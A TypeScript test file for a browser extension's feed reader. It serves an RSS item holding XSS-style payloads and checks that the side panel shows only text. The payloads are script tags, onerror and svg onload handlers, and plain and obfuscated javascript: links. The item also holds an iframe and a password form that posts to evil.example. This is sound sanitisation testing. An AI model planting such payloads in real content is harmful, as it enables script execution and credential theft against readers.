import { describe, expect, inject, it } from 'vitest';
import type { FeedServer } from '../support/feed-server';
import { useExtension } from '../support/use-extension';

const chromiumPath = inject('chromiumPath');
const TITLE = 'A story that tries everything';
const HOSTILE = `
  <p>Markets were calm today.</p>
  <script>window.__ran = 'script'</script>
  <img src="/missing.png" onerror="window.__ran = 'onerror'" alt="chart">
  <p><a href="javascript:window.__ran='link'">Click for the full report</a>
     <a href="JaVaScRiPt&#58;window.__ran='encoded'">and the appendix</a></p>
  <iframe src="https://evil.example/"></iframe>
  <form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
  <svg onload="window.__ran = 'svg'"><circle r="4"></circle></svg>
  <p>Analysts expect rates to hold.</p>`;

function serveHostileFeed(server: FeedServer): void {
  server.route('/feed.xml', {
    headers: { 'content-type': 'application/rss+xml; charset=utf-8' },
    body: (origin) => `<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
  <title>Info Finance</title><link>${origin}/</link>
  <item><title>${TITLE}</title><link>${origin}/stories/hostile</link><guid>hostile</guid>
    <pubDate>${new Date().toUTCString()}</pubDate>
    <content:encoded><![CDATA[${HOSTILE}]]></content:encoded></item>
</channel></rss>`,
  });
}

describe.skipIf(!chromiumPath)('a story whose feed carries scripts, handlers and forms', () => {
  const under = useExtension({ serve: serveHostileFeed });

  it('reads as text in the side panel with none of them active', async () => {
    const panel = await under.extension.open('sidepanel.html', { width: 420, height: 800 });
    const errors: string[] = [];
    panel.on('pageerror', (error) => errors.push(error.message));
    await panel.getByRole('link', { name: TITLE }).click();
    const content = panel.locator('.reader-content');
    await content.getByText('Markets were calm today.').waitFor();
    await content.getByText('Analysts expect rates to hold.').waitFor();
    await content.getByText('Click for the full report').waitFor();
    await content.locator('img').first().waitFor({ state: 'attached' });

    const found = await panel.evaluate(() => ({
      ran: (window as unknown as { __ran?: string }).__ran,
      javascriptLinks: [...document.querySelectorAll('[href]')].filter((element) =>
        /^\s*javascript:/i.test(element.getAttribute('href') ?? ''),
      ).length,
      dangerous: document.querySelectorAll(
        '.reader-content :is(script, iframe, form, input, button, object, embed, style)',
      ).length,
      handlers: [...document.querySelectorAll('.reader-content *')].flatMap((element) =>
        element.getAttributeNames().filter((name) => name.startsWith('on')),
      ),
    }));
    expect(found).toEqual({ ran: undefined, javascriptLinks: 0, dangerous: 0, handlers: [] });
    // The broken picture has failed by now: its onerror would have fired, had it survived.
    await panel.waitForFunction(() =>
      [...document.querySelectorAll('.reader-content img')].every((image) => (image as HTMLImageElement).complete),
    );
    expect(await panel.evaluate(() => (window as unknown as { __ran?: string }).__ran)).toBeUndefined();
    expect(errors).toEqual([]);
    await panel.close();
  });
});
